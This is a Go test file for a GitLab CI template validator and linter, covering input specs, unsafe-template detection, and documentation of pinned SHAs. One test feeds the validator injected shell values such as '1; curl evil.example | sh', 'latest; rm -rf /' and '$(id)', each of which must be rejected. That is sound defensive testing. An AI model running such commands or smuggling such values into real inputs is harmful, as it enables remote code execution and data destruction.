package citemplates

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func gitlabTemplate(t *testing.T) (string, []byte) {
	t.Helper()
	path := filepath.Join(repoRoot(t), "ci-templates", "gitlab", "race-fuzz.yml")
	src, err := os.ReadFile(path)
	require.NoError(t, err)
	return path, src
}

// nonDefaultInputs is the second input set the template is validated and rendered with.
var nonDefaultInputs = map[string]string{
	"stage":             "verify",
	"job-prefix":        "gofuzz",
	"image":             "registry.example.com/go/golang:1.25.3@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
	"working-directory": "services/api",
	"packages":          ". ../shared",
	"cpu":               "2,8",
	"race":              "false",
	"fuzz":              "true",
	"vet":               "true",
	"fuzz-time":         "1m",
	"fuzz-budget":       "20m",
	"shards":            "3",
	"racecheck-version": "v1.2.3",
	"racecheck-source":  "modules/racecheck",
}

func TestGitLabTemplateSpec(t *testing.T) {
	path, src := gitlabTemplate(t)
	tpl, err := ParseGitLabTemplate(src)
	require.NoError(t, err)
	assert.Empty(t, tpl.Check(path))
	names := make([]string, 0, len(tpl.Inputs))
	for _, in := range tpl.Inputs {
		names = append(names, in.Name)
	}
	for _, want := range []string{"stage", "job-prefix", "image", "packages", "cpu", "fuzz-time", "fuzz-budget", "shards", "racecheck-version"} {
		assert.Contains(t, names, want, "issue 8 lists this input")
	}
	require.NoError(t, tpl.ValidateInputs(nonDefaultInputs))
}

func TestGitLabInputsRejectShellMetacharacters(t *testing.T) {
	_, src := gitlabTemplate(t)
	tpl, err := ParseGitLabTemplate(src)
	require.NoError(t, err)
	for name, value := range map[string]string{
		"cpu":               "1; curl evil.example | sh",
		"packages":          "$(id)",
		"working-directory": "../`id`",
		"fuzz-time":         "10s && true",
		"fuzz-budget":       "1h;",
		"racecheck-version": "latest; rm -rf /",
		"racecheck-source":  "x'y",
		"job-prefix":        "Race Jobs",
		"race":              "yes",
		"vet":               "maybe",
		"shards":            "many",
	} {
		err := tpl.ValidateInputs(map[string]string{name: value})
		require.ErrorIs(t, err, ErrInvalidInput, "%s=%q must be rejected", name, value)
	}
	require.ErrorIs(t, tpl.ValidateInputs(map[string]string{"nope": "x"}), ErrInvalidInput)
}

func TestGitLabCheckFindsUnsafeTemplates(t *testing.T) {
	cases := map[string]struct {
		src  string
		rule string
	}{
		"input pasted into script": {`spec:
  inputs:
    dir:
      description: d
      regex: ^[a-z]+$
---
job:
  script:
    - cd $[[ inputs.dir ]]
`, "gitlab-input-in-script"},
		"unconstrained string": {`spec:
  inputs:
    dir:
      description: d
---
job:
  variables:
    DIR: $[[ inputs.dir ]]
  script:
    - cd "$DIR"
`, "gitlab-input-unconstrained"},
		"default breaks its regex": {`spec:
  inputs:
    n:
      description: d
      default: abc
      regex: ^[0-9]+$
---
job:
  variables:
    N: $[[ inputs.n ]]
  script: ["true"]
`, "gitlab-input-default"},
		"undeclared": {`spec:
  inputs:
    a:
      description: d
      options: [x, y]
---
job:
  variables:
    A: $[[ inputs.a ]]
    B: $[[ inputs.b ]]
  script: ["true"]
`, "gitlab-input-undeclared"},
		"cache restored but never saved": {`spec:
  inputs:
    p:
      description: d
      regex: ^[a-z]+$
---
build:
  cache:
    key: $[[ inputs.p ]]-build
    paths: [out/]
  script: ["true"]
test:
  cache:
    - key: $[[ inputs.p ]]-mod
      policy: pull
      paths: [mod/]
  script: ["true"]
`, "gitlab-cache-never-saved"},
		"unused": {`spec:
  inputs:
    a:
      description: d
      type: boolean
---
job:
  script: ["true"]
`, "gitlab-input-unused"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			tpl, err := ParseGitLabTemplate([]byte(tc.src))
			require.NoError(t, err)
			findings := tpl.Check("t.yml")
			require.NotEmpty(t, findings)
			rules := make([]string, 0, len(findings))
			for _, f := range findings {
				rules = append(rules, f.Rule)
			}
			assert.Contains(t, rules, tc.rule)
		})
	}
}

func TestGitLabTemplateNeedsSpecHeader(t *testing.T) {
	_, err := ParseGitLabTemplate([]byte("job:\n  script: [\"true\"]\n"))
	require.Error(t, err)
	_, err = ParseGitLabTemplate([]byte("spec: {}\n---\njob: {}\n"))
	require.Error(t, err)
	assert.True(t, strings.Contains(err.Error(), "spec:inputs"))
}

// TestDocsRecordEveryPinnedSHA keeps docs/ci-templates.md in step with the pins.
func TestDocsRecordEveryPinnedSHA(t *testing.T) {
	root := repoRoot(t)
	doc, err := os.ReadFile(filepath.Join(root, "docs", "ci-templates.md"))
	require.NoError(t, err)
	pins := pinnedActions(t, root)
	require.NotEmpty(t, pins)
	for _, p := range pins {
		if strings.HasPrefix(p, "raceproof/raceproof@") {
			continue // our own setup-racecheck: TestSetupRacecheckPinnedAtTheTestedContent
		}
		sha := p[strings.LastIndex(p, "@")+1:]
		assert.Contains(t, string(doc), sha, "docs/ci-templates.md must record where %s comes from", p)
	}
}
